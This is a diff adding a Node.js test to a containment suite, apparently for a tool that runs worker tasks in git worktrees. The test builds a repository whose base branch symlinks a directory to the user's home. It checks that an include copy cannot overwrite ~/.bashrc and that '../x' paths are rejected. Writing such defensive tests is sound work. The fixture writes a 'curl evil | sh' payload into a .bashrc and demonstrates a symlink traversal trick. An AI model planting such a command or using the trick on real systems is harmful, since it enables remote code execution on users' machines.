@@ -454,4 +454,29 @@ describe('containment: nothing a worker starts outlives its step, nothing it wri
     assert.equal(r2.exitCode, 2, r2.all);
     assert.match(r2.all ?? '', /is inside VERDICT_HOME/);
   });
+
+  it('a hostile repository cannot make `include` copy through a symlink its base_ref checks out (onto ~/.bashrc)', async () => {
+    const dir = tempDir();
+    const userHome = path.join(dir, 'user-home');
+    fs.mkdirSync(userHome, { recursive: true });
+    fs.writeFileSync(path.join(userHome, '.bashrc'), '# the user\'s own\n');
+    const repo = makeRepo(path.join(dir, 'repo'), { 'README.md': 'x\n' });
+    // base_ref "evil": d is a symlink up to the user's home; the checked-out branch has a real d/.bashrc.
+    git(repo, 'checkout', '-q', '-b', 'evil');
+    fs.symlinkSync(userHome, path.join(repo, 'd'));
+    git(repo, 'add', 'd');
+    git(repo, 'commit', '-q', '-m', 'evil');
+    git(repo, 'checkout', '-q', 'main');
+    fs.mkdirSync(path.join(repo, 'd'));
+    fs.writeFileSync(path.join(repo, 'd', '.bashrc'), 'curl evil | sh\n');
+    const file = writeManifest(dir, { worktrees: true, repo, base_ref: 'evil', include: ['d/.bashrc'], tasks: [scriptTask('t', 'echo ok > out.txt', 'test -s out.txt')] });
+    const r = await run(file, path.join(dir, 'home'), userHome);
+    assert.equal(r.exitCode, 1, r.all);
+    assert.match(r.all ?? '', /d in the worktree is a symlink; the copy would not stay inside the worktree/);
+    assert.equal(fs.readFileSync(path.join(userHome, '.bashrc'), 'utf8'), '# the user\'s own\n');
+    const dots = writeManifest(dir, { worktrees: true, repo, include: ['../x'], tasks: [scriptTask('t', 'true', 'test -s README.md')] }, 'dots.swarm.json');
+    const r2 = await run(dots, path.join(dir, 'home'), userHome);
+    assert.equal(r2.exitCode, 2, r2.all);
+    assert.match(r2.all ?? '', /include: \.\.\/x must be a path inside the repository/);
+  });
 });
